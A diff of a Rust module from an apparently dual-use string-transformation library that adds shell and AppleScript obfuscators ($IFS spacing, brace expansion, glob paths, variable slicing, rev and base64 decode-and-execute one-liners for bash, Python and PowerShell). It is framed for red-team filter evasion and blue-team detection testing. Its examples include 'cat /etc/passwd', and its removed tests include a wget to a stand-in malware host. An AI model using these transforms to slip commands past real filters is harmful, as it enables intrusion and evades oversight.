@@ -1,4 +1,10 @@
+use std::fmt;
+
+use crate::result::TransformResult;
 use crate::rng::SimpleRng;
+use crate::transformations::dedup_preserving_order;
+use crate::transformations::encoding::{base64_encode, hex_encode, percent_decode};
+use crate::transformations::url::{parse_ipv4, UrlParts};
 
 /// Generates PowerShell command obfuscation for Windows penetration testing.
 ///
@@ -92,385 +98,2806 @@ pub fn bash_obfuscate(cmd: &str) -> String {
     result
 }
 
-/// Obfuscates environment variable references for shell command evasion.
+/// Splits a shell command into characters, flagging the ones bash treats literally.
 ///
-/// Useful for penetration testing on Parrot and Kali Linux systems.
+/// Characters inside quotes, backslash escapes, backticks, `$(...)` /
+/// `${...}` expansions and parameter references such as `$HOME`, `$1` or
+/// `$$` are flagged `true`; only unflagged characters can separate words or
+/// act as operators.
+fn shell_chars(cmd: &str) -> Vec<(char, bool)> {
+    let chars: Vec<char> = cmd.chars().collect();
+    let mut out = Vec::with_capacity(chars.len());
+    let mut quote: Option<char> = None;
+    // Open and close characters of the current `$(` / `${` expansion, with its depth
+    let mut nest: Option<(char, char, usize)> = None;
+    let mut i = 0;
+
+    while i < chars.len() {
+        let c = chars[i];
+        if let Some((open, close, depth)) = nest {
+            if c == open {
+                nest = Some((open, close, depth + 1));
+            } else if c == close {
+                nest = (depth > 1).then_some((open, close, depth - 1));
+            }
+            out.push((c, true));
+            i += 1;
+            continue;
+        }
+        match quote {
+            Some(q) => {
+                out.push((c, true));
+                if c == q {
+                    quote = None;
+                } else if c == '\\' && q != '\'' && i + 1 < chars.len() {
+                    i += 1;
+                    out.push((chars[i], true));
+                }
+            }
+            None => match c {
+                '\'' | '"' | '`' => {
+                    quote = Some(c);
+                    out.push((c, true));
+                }
+                '\\' if i + 1 < chars.len() => {
+                    out.push((c, true));
+                    i += 1;
+                    out.push((chars[i], true));
+                }
+                '$' if matches!(chars.get(i + 1), Some('(' | '{')) => {
+                    let open = chars[i + 1];
+                    nest = Some((open, if open == '(' { ')' } else { '}' }, 1));
+                    out.push((c, true));
+                    i += 1;
+                    out.push((open, true));
+                }
+                '$' if chars
+                    .get(i + 1)
+                    .is_some_and(|&n| n.is_ascii_alphabetic() || n == '_') =>
+                {
+                    out.push((c, true));
+                    while chars
+                        .get(i + 1)
+                        .is_some_and(|&n| n.is_ascii_alphanumeric() || n == '_')
+                    {
+                        i += 1;
+                        out.push((chars[i], true));
+                    }
+                }
+                '$' if chars
+                    .get(i + 1)
+                    .is_some_and(|&n| n.is_ascii_digit() || "$?!#*@-".contains(n)) =>
+                {
+                    out.push((c, true));
+                    i += 1;
+                    out.push((chars[i], true));
+                }
+                _ => out.push((c, false)),
+            },
+        }
+        i += 1;
+    }
+
+    out
+}
+
+/// Whether an IO number such as the `2` of `2>&1` starts at `i`.
+///
+/// Bash only reads the digits as a file descriptor when they form a whole
+/// word, so the blank before them has to stay a literal blank.
+fn io_number_at(chars: &[(char, bool)], i: usize) -> bool {
+    let digits = chars[i..]
+        .iter()
+        .take_while(|&&(c, literal)| !literal && c.is_ascii_digit())
+        .count();
+    digits > 0 && matches!(chars.get(i + digits), Some(('<' | '>', false)))
+}
+
+/// Replaces the spaces between shell words with `${IFS}`.
+///
+/// Bash splits the unquoted expansion of `$IFS` (space, tab, newline) into
+/// word boundaries, so `cat${IFS}/etc/passwd` runs `cat /etc/passwd` without
+/// a literal space. Runs of spaces and tabs collapse into one `${IFS}`;
+/// whitespace inside quotes, escapes and `$(...)` is left alone so the
+/// command keeps its meaning, and the blank before a file descriptor
+/// redirection such as `2>&1` stays a space.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass command-injection filters that reject spaces
+/// - **Blue Team**: Verify injection detection normalizes `$IFS` separators
 ///
 /// # Examples
 ///
 /// ```
-/// use redstr::env_var_obfuscate;
-/// let var = "$HOME";
-/// let result = env_var_obfuscate(var);
-/// assert!(result.len() > 0);
+/// use redstr::bash_ifs_obfuscate;
+/// assert_eq!(bash_ifs_obfuscate("cat /etc/passwd"), "cat${IFS}/etc/passwd");
+/// assert_eq!(bash_ifs_obfuscate("echo 'a b'"), "echo${IFS}'a b'");
 /// ```
-pub fn env_var_obfuscate(input: &str) -> String {
-    let mut rng = SimpleRng::new();
+pub fn bash_ifs_obfuscate(cmd: &str) -> String {
+    let mut result = String::new();
+    let mut pending_space = false;
+    let chars = shell_chars(cmd.trim());
 
-    if !input.contains('$') {
-        return input.to_string();
+    for (i, &(c, literal)) in chars.iter().enumerate() {
+        if !literal && (c == ' ' || c == '\t') {
+            pending_space = true;
+            continue;
+        }
+        if pending_space {
+            result.push_str(if io_number_at(&chars, i) {
+                " "
+            } else {
+                "${IFS}"
+            });
+            pending_space = false;
+        }
+        result.push(c);
     }
 
-    input
-        .chars()
-        .map(|c| {
-            if c == '$' {
-                match rng.next() % 3 {
-                    0 => "$".to_string(),
-                    1 => "${".to_string(), // Start brace expansion
-                    2 => "$(".to_string(), // Command substitution start
-                    _ => "$".to_string(),
-                }
-            } else if c.is_alphabetic() && rng.next() % 4 == 0 {
-                // Case variation
-                if c.is_uppercase() {
-                    c.to_lowercase().to_string()
-                } else {
-                    c.to_uppercase().to_string()
-                }
-            } else {
-                c.to_string()
-            }
-        })
-        .collect()
+    result
 }
 
-/// Generates file path obfuscation for path traversal and file inclusion testing.
+/// Rewrites each simple command as a bash brace expansion.
 ///
-/// Useful for penetration testing on Parrot and Kali Linux systems.
+/// `{cat,/etc/passwd}` expands to the two words `cat /etc/passwd`, so the
+/// command runs without any whitespace. Pipelines, lists and redirections
+/// are kept, with each command wrapped on its own
+/// (`{cat,/etc/passwd}|{grep,root}`). A file descriptor redirection keeps
+/// a blank before it (`{ls,/root} 2>&1`), since digits right after the
+/// closing brace would be appended to every word. Unquoted commas and braces
+/// inside words are backslash-escaped, and single-word commands are left as
+/// they are since `{ls}` does not expand. Meant for simple commands: variable
+/// assignments and keywords such as `if` lose their meaning once braced.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass command-injection filters that reject spaces
+/// - **Blue Team**: Verify injection detection expands brace syntax
 ///
 /// # Examples
 ///
 /// ```
-/// use redstr::file_path_obfuscate;
-/// let path = "/etc/passwd";
-/// let result = file_path_obfuscate(path);
-/// assert!(result.len() > 0);
+/// use redstr::bash_brace_expansion;
+/// assert_eq!(bash_brace_expansion("cat /etc/passwd"), "{cat,/etc/passwd}");
+/// assert_eq!(
+///     bash_brace_expansion("cat /etc/passwd | grep root"),
+///     "{cat,/etc/passwd}|{grep,root}"
+/// );
 /// ```
-pub fn file_path_obfuscate(path: &str) -> String {
-    let mut rng = SimpleRng::new();
+pub fn bash_brace_expansion(cmd: &str) -> String {
+    fn render(words: &[Vec<(char, bool)>], out: &mut String) {
+        if let [word] = words {
+            out.extend(word.iter().map(|&(c, _)| c));
+            return;
+        }
+        if words.is_empty() {
+            return;
+        }
+        out.push('{');
+        for (i, word) in words.iter().enumerate() {
+            if i > 0 {
+                out.push(',');
+            }
+            for &(c, literal) in word {
+                if !literal && matches!(c, ',' | '{' | '}') {
+                    out.push('\\');
+                }
+                out.push(c);
+            }
+        }
+        out.push('}');
+    }
+
     let mut result = String::new();
+    let mut words: Vec<Vec<(char, bool)>> = Vec::new();
+    let mut word: Vec<(char, bool)> = Vec::new();
 
-    for c in path.chars() {
-        match c {
-            '/' => {
-                // Path separator variations
-                match rng.next() % 4 {
-                    0 => result.push('/'),
-                    1 => {
-                        // Add path traversal
-                        if rng.next() % 2 == 0 {
-                            result.push_str("../");
-                        } else {
-                            result.push('/');
-                        }
-                    }
-                    2 => result.push('\\'), // Windows-style (sometimes works on Linux)
-                    _ => result.push('/'),
-                }
+    for (c, literal) in shell_chars(cmd) {
+        if literal {
+            word.push((c, literal));
+        } else if c.is_whitespace() {
+            if !word.is_empty() {
+                words.push(std::mem::take(&mut word));
             }
-            '.' => {
-                // Dot variations
-                match rng.next() % 3 {
-                    0 => result.push('.'),
-                    1 => result.push_str("%2e"), // URL encoded
-                    _ => result.push('.'),
-                }
+        } else if ";|&<>()".contains(c) {
+            // A file descriptor number directly before a redirection belongs to it
+            let io_number = matches!(c, '<' | '>')
+                && !word.is_empty()
+                && word.iter().all(|&(d, lit)| !lit && d.is_ascii_digit());
+            if !word.is_empty() && !io_number {
+                words.push(std::mem::take(&mut word));
             }
-            _ => {
-                // Case variation for filenames
-                if c.is_alphabetic() && rng.next() % 5 == 0 {
-                    if c.is_uppercase() {
-                        result.push_str(&c.to_lowercase().to_string());
-                    } else {
-                        result.push_str(&c.to_uppercase().to_string());
-                    }
-                } else {
-                    result.push(c);
-                }
+            render(&words, &mut result);
+            if io_number && !words.is_empty() {
+                result.push(' ');
             }
+            words.clear();
+            result.extend(word.drain(..).map(|(d, _)| d));
+            result.push(c);
+        } else {
+            word.push((c, literal));
         }
     }
+    if !word.is_empty() {
+        words.push(word);
+    }
+    render(&words, &mut result);
 
     result
 }
 
-#[cfg(test)]
-mod tests {
-    use super::*;
+/// Replaces the characters of a path with `?` glob wildcards.
+///
+/// Directory names become all `?` and the final component keeps its first
+/// and last characters (`/bin/cat` becomes `/???/c?t`), so the path expands
+/// back to the original file through pathname expansion without spelling it
+/// out. Components of one or two characters keep only their first character.
+/// The pattern may also match neighbours such as `/bin/cut`; use
+/// [`bash_wildcard_path_unique`] to check against a filesystem layout.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass command-injection filters that block binary paths
+/// - **Blue Team**: Verify detection rules expand globs before matching paths
+///
+/// # Examples
+///
+/// ```
+/// use redstr::bash_wildcard_path;
+/// assert_eq!(bash_wildcard_path("/bin/cat"), "/???/c?t");
+/// assert_eq!(bash_wildcard_path("/etc/passwd"), "/???/p????d");
+/// ```
+pub fn bash_wildcard_path(path: &str) -> String {
+    let segments: Vec<&str> = path.split('/').collect();
+    let last = segments.len() - 1;
 
-    #[test]
-    fn test_powershell_obfuscate() {
-        let cmd = "Get-Process";
-        let result = powershell_obfuscate(cmd);
-        assert!(result.len() > 0);
-        assert!(result.to_lowercase().contains("get"));
-    }
+    segments
+        .iter()
+        .enumerate()
+        .map(|(i, segment)| {
+            let len = segment.chars().count();
+            segment
+                .chars()
+                .enumerate()
+                .map(|(j, c)| {
+                    let keep = i == last && (j == 0 || (j == len - 1 && len > 2));
+                    if keep || (c == '.' && j == 0) {
+                        c
+                    } else {
+                        '?'
+                    }
+                })
+                .collect::<String>()
+        })
+        .collect::<Vec<_>>()
+        .join("/")
+}
 
-    #[test]
-    fn test_powershell_obfuscate_empty() {
-        assert_eq!(powershell_obfuscate(""), "");
+/// Matches one path component against a glob component (`?`, `*`, `[...]`).
+fn glob_segment_matches(pattern: &[char], name: &[char]) -> bool {
+    match pattern.first() {
+        None => name.is_empty(),
+        Some('*') => {
+            (0..=name.len()).any(|skip| glob_segment_matches(&pattern[1..], &name[skip..]))
+        }
+        Some('?') => !name.is_empty() && glob_segment_matches(&pattern[1..], &name[1..]),
+        Some('[') => {
+            let Some((&c, rest)) = name.split_first() else {
+                return false;
+            };
+            let negate = matches!(pattern.get(1), Some('!' | '^'));
+            let start = if negate { 2 } else { 1 };
+            // A `]` right after the opening bracket is a literal member
+            let Some(end) = pattern
+                .iter()
+                .skip(start + 1)
+                .position(|&p| p == ']')
+                .map(|pos| pos + start + 1)
+            else {
+                return c == '[' && glob_segment_matches(&pattern[1..], rest);
+            };
+            let set = &pattern[start..end];
+            let mut found = false;
+            let mut k = 0;
+            while k < set.len() {
+                if k + 2 < set.len() && set[k + 1] == '-' {
+                    found |= set[k] <= c && c <= set[k + 2];
+                    k += 3;
+                } else {
+                    found |= set[k] == c;
+                    k += 1;
+                }
+            }
+            found != negate && glob_segment_matches(&pattern[end + 1..], rest)
+        }
+        Some('\\') if pattern.len() > 1 => {
+            name.first() == Some(&pattern[1]) && glob_segment_matches(&pattern[2..], &name[1..])
+        }
+        Some(&p) => name.first() == Some(&p) && glob_segment_matches(&pattern[1..], &name[1..]),
     }
+}
 
-    #[test]
-    fn test_powershell_obfuscate_get_childitem() {
-        let result = powershell_obfuscate("Get-ChildItem");
-        assert!(!result.is_empty());
-    }
+/// Lists the paths in `layout` that a bash glob pattern expands to.
+///
+/// Matching follows pathname expansion: `?`, `*` and bracket expressions
+/// never cross a `/`, and a leading `.` in a file name must be matched
+/// literally. `layout` is the set of existing paths to resolve against,
+/// such as the output of `find /bin /usr/bin` on the target.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Check which binaries a wildcard command will execute
+/// - **Blue Team**: Resolve globbed paths seen in command lines to real files
+///
+/// # Examples
+///
+/// ```
+/// use redstr::bash_glob_resolve;
+/// let layout = ["/bin/cat", "/bin/cut", "/bin/ls", "/usr/bin/cat"];
+/// assert_eq!(bash_glob_resolve("/???/c?t", &layout), vec!["/bin/cat", "/bin/cut"]);
+/// assert_eq!(bash_glob_resolve("/*/*/cat", &layout), vec!["/usr/bin/cat"]);
+/// ```
+pub fn bash_glob_resolve(pattern: &str, layout: &[&str]) -> Vec<String> {
+    let pattern_segments: Vec<Vec<char>> =
+        pattern.split('/').map(|s| s.chars().collect()).collect();
 
-    #[test]
-    fn test_powershell_obfuscate_invoke_expression() {
-        let result = powershell_obfuscate("Invoke-Expression");
-        assert!(!result.is_empty());
-    }
+    layout
+        .iter()
+        .filter(|path| {
+            let segments: Vec<Vec<char>> = path.split('/').map(|s| s.chars().collect()).collect();
+            segments.len() == pattern_segments.len()
+                && segments
+                    .iter()
+                    .zip(&pattern_segments)
+                    .all(|(name, pattern)| {
+                        (name.first() != Some(&'.') || pattern.first() == Some(&'.'))
+                            && glob_segment_matches(pattern, name)
+                    })
+        })
+        .map(|path| path.to_string())
+        .collect()
+}
 
-    #[test]
-    fn test_powershell_obfuscate_with_params() {
-        let result = powershell_obfuscate("Get-Process -Name chrome");
-        assert!(!result.is_empty());
+/// Builds the most wildcarded form of `path` that expands to it alone in `layout`.
+///
+/// Starts from [`bash_wildcard_path`] and, while the pattern still matches
+/// other entries, reveals hidden characters of the file name and then of the
+/// directories, left to right. Returns `None` when `path` is not in
+/// `layout`, since the pattern could not expand to it there.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Produce wildcard paths that run exactly the intended binary
+/// - **Blue Team**: Generate realistic globbed commands for detection tests
+///
+/// # Examples
+///
+/// ```
+/// use redstr::bash_wildcard_path_unique;
+/// let layout = ["/bin/cat", "/bin/cut", "/bin/ls"];
+/// assert_eq!(
+///     bash_wildcard_path_unique("/bin/cat", &layout),
+///     Some("/???/cat".to_string())
+/// );
+/// assert_eq!(bash_wildcard_path_unique("/bin/nc", &layout), None);
+/// ```
+pub fn bash_wildcard_path_unique(path: &str, layout: &[&str]) -> Option<String> {
+    if !layout.contains(&path) {
+        return None;
     }
+    let original: Vec<char> = path.chars().collect();
+    let mut pattern: Vec<char> = bash_wildcard_path(path).chars().collect();
+    let file_start = original
+        .iter()
+        .rposition(|&c| c == '/')
+        .map_or(0, |i| i + 1);
+    // Hidden positions, file name first, then directories
+    let hidden: Vec<usize> = (file_start..pattern.len())
+        .chain(0..file_start)
+        .filter(|&i| pattern[i] == '?')
+        .collect();
 
-    #[test]
-    fn test_powershell_obfuscate_pipeline() {
-        let result = powershell_obfuscate("Get-Process | Where-Object");
-        assert!(!result.is_empty());
+    for i in std::iter::once(None).chain(hidden.into_iter().map(Some)) {
+        if let Some(i) = i {
+            pattern[i] = original[i];
+        }
+        let candidate: String = pattern.iter().collect();
+        if bash_glob_resolve(&candidate, layout).len() == 1 {
+            return Some(candidate);
+        }
     }
 
-    #[test]
-    fn test_powershell_obfuscate_script_block() {
-        let result = powershell_obfuscate("{ Get-Process }");
-        assert!(!result.is_empty());
-    }
+    None
+}
 
-    #[test]
-    fn test_powershell_obfuscate_multiple_commands() {
-        let result = powershell_obfuscate("Get-Process; Get-Service");
-        assert!(!result.is_empty());
-    }
+/// Bash variables whose values are predictable on GNU/Linux, for
+/// `${VAR:n:1}` slicing. The flag marks values only known at their end,
+/// which are sliced with negative offsets. Only variables that are set in
+/// non-interactive `bash -c` belong here; prompts such as `PS2` are not.
+const BASH_VAR_DEFAULTS: &[(&str, &str, bool)] = &[
+    // Every absolute PATH starts with a slash
+    ("PATH", "/", false),
+    ("HOME", "/", false),
+    ("OSTYPE", "linux-gnu", false),
+    // /bin/bash or /usr/bin/bash
+    ("BASH", "/bash", true),
+    ("IFS", " \t\n", false),
+];
 
-    #[test]
-    fn test_powershell_obfuscate_download_string() {
-        let result = powershell_obfuscate("Invoke-WebRequest");
-        assert!(!result.is_empty());
-    }
+/// Reserved words bash only recognizes when they are spelled out literally.
+const BASH_RESERVED_WORDS: &[&str] = &[
+    "!", "[[", "]]", "{", "}", "case", "do", "done", "elif", "else", "esac", "fi", "for",
+    "function", "if", "in", "select", "then", "time", "until", "while",
+];
 
-    #[test]
-    fn test_powershell_obfuscate_base64() {
-        let result = powershell_obfuscate("FromBase64String");
-        assert!(!result.is_empty());
-    }
+/// Flags the characters [`bash_var_slice`] has to leave alone: reserved
+/// words, the name after `for`, `select` and `function`, the `NAME=` prefix
+/// of assignments, everything inside `[[ ... ]]`, and the blanks after any
+/// of these or before a reserved word or an IO number such as the `2` of
+/// `2>&1`, since a sliced blank merges the neighbouring words into one where
+/// bash does no word splitting.
+fn bash_slice_protected(chars: &[(char, bool)]) -> Vec<bool> {
+    let is_blank = |(c, literal): (char, bool)| !literal && (c == ' ' || c == '\t');
+    let is_operator = |(c, literal): (char, bool)| {
+        !literal && matches!(c, '<' | '>' | '|' | '&' | ';' | '(' | ')' | '\n')
+    };
 
-    #[test]
-    fn test_powershell_obfuscate_preserves_structure() {
-        let cmd = "Test-Command";
-        let result = powershell_obfuscate(cmd);
-        assert!(!result.is_empty());
-    }
+    let mut keep = vec![false; chars.len()];
+    let mut prev_word: Option<String> = None;
+    let mut prev_protected = false;
+    let mut in_test = false;
+    let mut blanks = Vec::new();
+    let mut i = 0;
 
-    #[test]
-    fn test_bash_obfuscate() {
-        let cmd = "cat /etc/passwd";
-        let result = bash_obfuscate(cmd);
-        assert!(result.contains("cat"));
-    }
+    while i < chars.len() {
+        if is_blank(chars[i]) {
+            if prev_protected || in_test {
+                keep[i] = true;
+            }
+            blanks.push(i);
+            i += 1;
+            continue;
+        }
+        if is_operator(chars[i]) {
+            prev_word = None;
+            prev_protected = false;
+            blanks.clear();
+            i += 1;
+            continue;
+        }
 
-    #[test]
-    fn test_bash_obfuscate_empty() {
-        assert_eq!(bash_obfuscate(""), "");
-    }
+        let start = i;
+        while i < chars.len() && !is_blank(chars[i]) && !is_operator(chars[i]) {
+            i += 1;
+        }
+        let word = &chars[start..i];
+        let text: String = word.iter().map(|&(c, _)| c).collect();
+        let reserved = word.iter().all(|&(_, literal)| !literal)
+            && BASH_RESERVED_WORDS.contains(&text.as_str());
+        let name_len = word
+            .iter()
+            .take_while(|&&(c, literal)| !literal && (c.is_ascii_alphanumeric() || c == '_'))
+            .count();
+        let assignment = name_len > 0
+            && !word[0].0.is_ascii_digit()
+            && word.get(name_len) == Some(&('=', false));
 
-    #[test]
-    fn test_bash_obfuscate_simple() {
-        let result = bash_obfuscate("ls -la");
-        assert!(!result.is_empty());
+        if reserved
+            || in_test
+            || matches!(prev_word.as_deref(), Some("for" | "select" | "function"))
+        {
+            keep[start..i].fill(true);
+        } else if assignment {
+            keep[start..=start + name_len].fill(true);
+        }
+        if reserved || io_number_at(chars, start) {
+            for &b in &blanks {
+                keep[b] = true;
+            }
+        }
+        if reserved {
+            in_test = match text.as_str() {
+                "[[" => true,
+                "]]" => false,
+                _ => in_test,
+            };
+        }
+        prev_protected = keep[start];
+        prev_word = Some(text);
+        blanks.clear();
     }
 
-    #[test]
-    fn test_bash_obfuscate_curl() {
-        let result = bash_obfuscate("curl http://example.com");
-        assert!(!result.is_empty());
-    }
+    keep
+}
 
-    #[test]
-    fn test_bash_obfuscate_wget() {
-        let result = bash_obfuscate("wget https://malware.com");
-        assert!(!result.is_empty());
-    }
+/// Rewrites a bash command with characters sliced out of shell variables.
+///
+/// Each character found in the predictable part of a variable (`$PATH` and
+/// `$HOME` start with `/`, `$OSTYPE` is `linux-gnu`, `$BASH` ends in
+/// `/bash`, `$IFS` starts with a space) is replaced by a one-character
+/// substring expansion from a random source: `/` becomes `${PATH:0:1}` and
+/// `s` becomes `${BASH: -2:1}`. Characters no variable contains, shell
+/// operators (`<>|&;()` and newlines, which would turn into literal
+/// arguments), and anything inside quotes, `$(...)` or a `$NAME` reference
+/// are kept as they are. So are reserved words such as `if` and `done`,
+/// loop and function names, the `NAME=` of assignments and the blank before
+/// a file descriptor redirection such as `2>&1`, which bash only recognizes
+/// when spelled out.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Keep paths and command names out of injected command lines
+/// - **Blue Team**: Verify detection of `${VAR:offset:length}` slicing
+///
+/// # Examples
+///
+/// ```
+/// use redstr::bash_var_slice;
+/// let result = bash_var_slice("cat /etc/passwd");
+/// assert!(result.contains("${"));
+/// assert!(!result.contains("/etc/"));
+/// ```
+pub fn bash_var_slice(command: &str) -> String {
+    let mut rng = SimpleRng::new();
+    let chars = shell_chars(command);
+    let protected = bash_slice_protected(&chars);
 
-    #[test]
-    fn test_bash_obfuscate_nc() {
+    chars
+        .into_iter()
+        .zip(protected)
+        .map(|((c, literal), protected)| {
+            if literal || protected || matches!(c, '<' | '>' | '|' | '&' | ';' | '(' | ')' | '\n') {
+                return c.to_string();
+            }
+            let sources: Vec<String> =
+                BASH_VAR_DEFAULTS
+                    .iter()
+                    .flat_map(|&(name, value, from_end)| {
+                        let len = value.chars().count();
+                        value.chars().enumerate().filter(move |&(_, v)| v == c).map(
+                            move |(i, _)| {
+                                if from_end {
+                                    format!("${{{}: -{}:1}}", name, len - i)
+                                } else {
+                                    format!("${{{}:{}:1}}", name, i)
+                                }
+                            },
+                        )
+                    })
+                    .collect();
+            if sources.is_empty() {
+                c.to_string()
+            } else {
+                sources[rng.next() as usize % sources.len()].clone()
+            }
+        })
+        .collect()
+}
+
+/// Wraps a command so bash receives it reversed and `rev` restores it.
+///
+/// Produces `echo '<reversed>' | rev | bash`, quoting the reversed text
+/// for single quotes. `rev` reverses each line on its own, so each line of
+/// a multi-line command is reversed in place and the lines still run in
+/// order. The result is itself a command, so it composes with
+/// [`bash_base64_wrap`] and the other bash transforms.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Hide command strings from signatures matching the plain text
+/// - **Blue Team**: Verify detection of `| rev | bash` decoding pipelines
+///
+/// # Examples
+///
+/// ```
+/// use redstr::bash_rev_wrap;
+/// assert_eq!(bash_rev_wrap("id"), "echo 'di' | rev | bash");
+/// ```
+pub fn bash_rev_wrap(command: &str) -> String {
+    let reversed = command
+        .split('\n')
+        .map(|line| line.chars().rev().collect::<String>())
+        .collect::<Vec<_>>()
+        .join("\n");
+    format!("echo '{}' | rev | bash", reversed.replace('\'', "'\\''"))
+}
+
+/// Wraps a command so bash receives it base64-encoded.
+///
+/// Produces `echo <base64> | base64 -d | bash`, the [`shell_one_liner`]
+/// form for [`Shell::Bash`] and [`ShellEncoding::Base64`]. Base64 text
+/// needs no quoting, and the result composes with [`bash_rev_wrap`] and the
+/// other bash transforms.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Deliver commands with quotes and operators through filters
+/// - **Blue Team**: Verify detection of `base64 -d | bash` decoding pipelines
+///
+/// # Examples
+///
+/// ```
+/// use redstr::bash_base64_wrap;
+/// assert_eq!(bash_base64_wrap("id"), "echo aWQ= | base64 -d | bash");
+/// ```
+pub fn bash_base64_wrap(command: &str) -> String {
+    shell_one_liner(command, Shell::Bash, ShellEncoding::Base64)
+}
+
+/// Interpreter that runs the payload of [`shell_one_liner`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Shell {
+    /// GNU Bash.
+    Bash,
+    /// POSIX `sh` (dash, busybox).
+    Sh,
+    /// Python 3, payload is Python source.
+    Python,
+    /// Windows PowerShell, payload is a PowerShell script.
+    PowerShell,
+}
+
+impl Shell {
+    /// Lowercase interpreter name, e.g. `"powershell"`.
+    pub fn name(self) -> &'static str {
+        match self {
+            Shell::Bash => "bash",
+            Shell::Sh => "sh",
+            Shell::Python => "python",
+            Shell::PowerShell => "powershell",
+        }
+    }
+}
+
+impl fmt::Display for Shell {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.name())
+    }
+}
+
+/// How [`shell_one_liner`] encodes the payload.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum ShellEncoding {
+    /// Standard padded Base64 of the UTF-8 bytes.
+    Base64,
+    /// Lowercase hex of the UTF-8 bytes.
+    Hex,
+}
+
+/// Wraps a payload in a one-liner that decodes and runs it with `shell`.
+///
+/// `command` is written in the interpreter's own language: a shell command
+/// for [`Shell::Bash`] and [`Shell::Sh`], Python source for
+/// [`Shell::Python`] and a script for [`Shell::PowerShell`]. The encoded
+/// text needs no quoting, so the wrapper survives the quotes and operators
+/// of the original:
+///
+/// | Shell | Base64 | Hex |
+/// |-------|--------|-----|
+/// | Bash / Sh | `echo <b64> \| base64 -d \| bash` | `echo <hex> \| xxd -r -p \| bash` |
+/// | Python | `python3 -c 'exec(__import__("base64").b64decode("<b64>"))'` | `python3 -c 'exec(bytes.fromhex("<hex>"))'` |
+/// | PowerShell | `powershell -NoP -C "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('<b64>')))"` | `powershell -NoP -C "IEX([Text.Encoding]::UTF8.GetString([byte[]]('<hex>' -split '(..)' -ne '' \| %{[Convert]::ToByte($_,16)})))"` |
+///
+/// # Use Cases
+///
+/// - **Red Team**: Deliver payloads through command injection without quoting issues
+/// - **Blue Team**: Generate decode-and-execute one-liners for detection rules
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{shell_one_liner, Shell, ShellEncoding};
+/// assert_eq!(
+///     shell_one_liner("id", Shell::Bash, ShellEncoding::Base64),
+///     "echo aWQ= | base64 -d | bash"
+/// );
+/// assert_eq!(
+///     shell_one_liner("print(1)", Shell::Python, ShellEncoding::Hex),
+///     "python3 -c 'exec(bytes.fromhex(\"7072696e74283129\"))'"
+/// );
+/// ```
+pub fn shell_one_liner(command: &str, shell: Shell, enc: ShellEncoding) -> String {
+    let encoded = match enc {
+        ShellEncoding::Base64 => base64_encode(command),
+        ShellEncoding::Hex => hex_encode(command),
+    };
+    match (shell, enc) {
+        (Shell::Bash | Shell::Sh, ShellEncoding::Base64) => {
+            format!("echo {} | base64 -d | {}", encoded, shell.name())
+        }
+        (Shell::Bash | Shell::Sh, ShellEncoding::Hex) => {
+            format!("echo {} | xxd -r -p | {}", encoded, shell.name())
+        }
+        (Shell::Python, ShellEncoding::Base64) => format!(
+            "python3 -c 'exec(__import__(\"base64\").b64decode(\"{}\"))'",
+            encoded
+        ),
+        (Shell::Python, ShellEncoding::Hex) => {
+            format!("python3 -c 'exec(bytes.fromhex(\"{}\"))'", encoded)
+        }
+        (Shell::PowerShell, ShellEncoding::Base64) => format!(
+            "powershell -NoP -C \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))\"",
+            encoded
+        ),
+        (Shell::PowerShell, ShellEncoding::Hex) => format!(
+            "powershell -NoP -C \"IEX([Text.Encoding]::UTF8.GetString([byte[]]('{}' -split '(..)' -ne '' | %{{[Convert]::ToByte($_,16)}})))\"",
+            encoded
+        ),
+    }
+}
+
+/// Writes `text` as an AppleScript `character id {...}` expression.
+fn applescript_char_ids(text: &str) -> String {
+    let ids: Vec<String> = text.chars().map(|c| (c as u32).to_string()).collect();
+    format!("(character id {{{}}})", ids.join(", "))
+}
+
+/// Obfuscates an AppleScript for macOS detection testing.
+///
+/// Picks one of three forms at random:
+///
+/// - Character-id building: `run script (character id {115, 97, 121, ...})`
+/// - Base64 indirection through the shell:
+///   `run script (do shell script "echo <b64> | base64 --decode")`
+/// - String literals rebuilt in place, so `display dialog "hi"` becomes
+///   `display dialog (character id {104, 105})` and the commands given to
+///   `do shell script` never appear as text
+///
+/// # Use Cases
+///
+/// - **Red Team**: Hide AppleScript payloads from string-matching EDR rules on macOS
+/// - **Blue Team**: Verify osascript telemetry decodes character-id and base64 indirection
+///
+/// # Examples
+///
+/// ```
+/// use redstr::osascript_obfuscate;
+/// let result = osascript_obfuscate("do shell script \"id\"");
+/// assert!(!result.contains("\"id\""));
+/// ```
+pub fn osascript_obfuscate(script: &str) -> String {
+    let mut rng = SimpleRng::new();
+    match rng.next() % 3 {
+        0 => format!("run script {}", applescript_char_ids(script)),
+        1 => format!(
+            "run script (do shell script \"echo {} | base64 --decode\")",
+            base64_encode(script)
+        ),
+        _ => {
+            let mut result = String::new();
+            let mut rest = script;
+            while let Some(open) = rest.find('"') {
+                result.push_str(&rest[..open]);
+                let body = &rest[open + 1..];
+                // AppleScript escapes quotes and backslashes with a backslash
+                let mut value = String::new();
+                let mut chars = body.char_indices();
+                let mut close = None;
+                while let Some((i, c)) = chars.next() {
+                    match c {
+                        '\\' => {
+                            if let Some((_, escaped)) = chars.next() {
+                                value.push(match escaped {
+                                    'n' => '\n',
+                                    't' => '\t',
+                                    'r' => '\r',
+                                    other => other,
+                                });
+                            }
+                        }
+                        '"' => {
+                            close = Some(i);
+                            break;
+                        }
+                        _ => value.push(c),
+                    }
+                }
+                match close {
+                    Some(close) if !value.is_empty() => {
+                        result.push_str(&applescript_char_ids(&value));
+                        rest = &body[close + 1..];
+                    }
+                    Some(close) => {
+                        result.push_str("\"\"");
+                        rest = &body[close + 1..];
+                    }
+                    None => {
+                        result.push_str(&rest[open..]);
+                        rest = "";
+                    }
+                }
+            }
+            result.push_str(rest);
+            result
+        }
+    }
+}
+
